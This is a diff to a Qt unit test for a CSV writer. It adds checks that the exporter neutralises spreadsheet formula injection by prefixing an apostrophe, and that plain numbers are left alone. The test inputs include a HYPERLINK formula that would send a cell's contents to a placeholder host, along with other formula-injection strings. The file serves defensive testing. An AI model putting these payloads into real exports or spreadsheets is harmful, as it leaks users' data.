@@ -50,10 +50,10 @@ private slots:
         QTest::newRow("non-ASCII with comma") << "Ähtäri, Åland"
                                               << "\"Ähtäri, Åland\""
                                               << "Ähtäri, Åland";
-        // The hook for formulas changes nothing yet.
-        QTest::newRow("formula-like") << "=1+1"
-                                      << "=1+1"
-                                      << "=1+1";
+        // A formula gets a leading apostrophe (neutralisesSpreadsheetFormulas).
+        QTest::newRow("formula") << "=1+1"
+                                 << "'=1+1"
+                                 << "'=1+1";
     }
     void quotesWhatRfc4180Asks()
     {
@@ -62,6 +62,24 @@ private slots:
         QFETCH(QString, semicolon);
         QCOMPARE(CsvWriter().field(value), comma);
         QCOMPARE(CsvWriter(CsvWriter::Delimiter::Semicolon).field(value), semicolon);
+    }
+
+    // A pupil imported as =HYPERLINK(...) or a class named =1+1 must not run as
+    // a formula in the spreadsheet that opens the export.
+    void neutralisesSpreadsheetFormulas()
+    {
+        const CsvWriter csv;
+        QCOMPARE(csv.field(QStringLiteral("=HYPERLINK(\"http://x/?\"&A1,\"klik\")")),
+                 QStringLiteral("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\""));
+        QCOMPARE(csv.field(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
+        QCOMPARE(csv.field(QStringLiteral("+49 tel")), QStringLiteral("'+49 tel"));
+        QCOMPARE(csv.field(QStringLiteral("-2+3")), QStringLiteral("'-2+3"));
+        QCOMPARE(csv.field(QStringLiteral("@SUM(A1)")), QStringLiteral("'@SUM(A1)"));
+        QCOMPARE(csv.field(QStringLiteral("\tcmd")), QStringLiteral("'\tcmd"));
+        QCOMPARE(csv.field(QStringLiteral("\rcmd")), QStringLiteral("\"'\rcmd\""));
+        // Numbers stay numbers; text that merely contains the characters is left.
+        for (const char* plain : {"-1.5", "+2", "-0.25", "3e-4", "a=b", "8A", "2026-12-01"})
+            QCOMPARE(csv.field(QString::fromLatin1(plain)), QString::fromLatin1(plain));
     }
 
     void joinsFieldsByTheDelimiter()
